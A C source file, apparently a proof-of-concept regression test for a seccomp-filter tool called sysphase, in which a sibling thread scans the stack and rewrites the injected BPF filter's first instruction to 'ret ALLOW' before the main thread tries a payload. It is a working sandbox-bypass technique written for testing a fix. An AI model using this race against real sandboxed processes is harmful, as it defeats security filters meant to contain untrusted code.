/* SPDX-License-Identifier: MIT */
/*
 * Attack 1 of issue 10: a sibling thread rewrites the filter while it is
 * being injected.  sysphase writes struct sock_fprog and the program
 * below the injecting thread's stack pointer, memory every thread of the
 * process can write.  A scanner thread sweeps the main thread's stack
 * for the fprog header {len, ptr == its own address + 16} and overwrites
 * the program's first instruction with `ret ALLOW`, for as long as the
 * main thread goes through its phases; then (--attack) the main thread
 * tries the payload in serving.  Held still during injections, the
 * scanner never finds the header, the real filter is installed, and the
 * socket() kills the process.
 */
#include <pthread.h>
#include <stdint.h>

#include "attack.h"

static volatile int stop_scan, scanning;
static volatile unsigned long found;
static uintptr_t stack_lo, stack_hi;

/* The main thread's stack mapping, from /proc/self/maps. */
static void find_stack(void)
{
	char buf[65536];
	int fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	char *line;

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		_exit(2);
	buf[n] = '\0';
	line = strstr(buf, "[stack]");
	if (!line)
		_exit(2);
	while (line > buf && line[-1] != '\n')
		line--;
	if (sscanf(line, "%lx-%lx", &stack_lo, &stack_hi) != 2)
		_exit(2);
}

static void *scanner(void *arg)
{
	(void)arg;
	/* Its start-up calls are behind it: the main thread may change phase now. */
	scanning = 1;
	while (!stop_scan) {
		found += rewrite_fprogs(stack_lo, stack_hi);
	}
	return NULL;
}

/* Deep enough for the stack mapping to cover where an injection writes. */
static void grow_stack(void)
{
	volatile char deep[256 * 1024];

	memset((char *)deep, 0, sizeof(deep));
}

int main(int argc, char **argv)
{
	pthread_t t;

	grow_stack();
	find_stack();
	if (pthread_create(&t, NULL, scanner, NULL) != 0)
		_exit(2);
	while (!scanning)
		; /* no syscall: the recording and the runs see the same calls per phase */
	enter_ready();
	enter_serving();
	stop_scan = 1;
	pthread_join(t, NULL);
	say("rewrite: found the program %lu times\n", found);
	if (attacking(argc, argv))
		payload("rewrite");
	return 0;
}
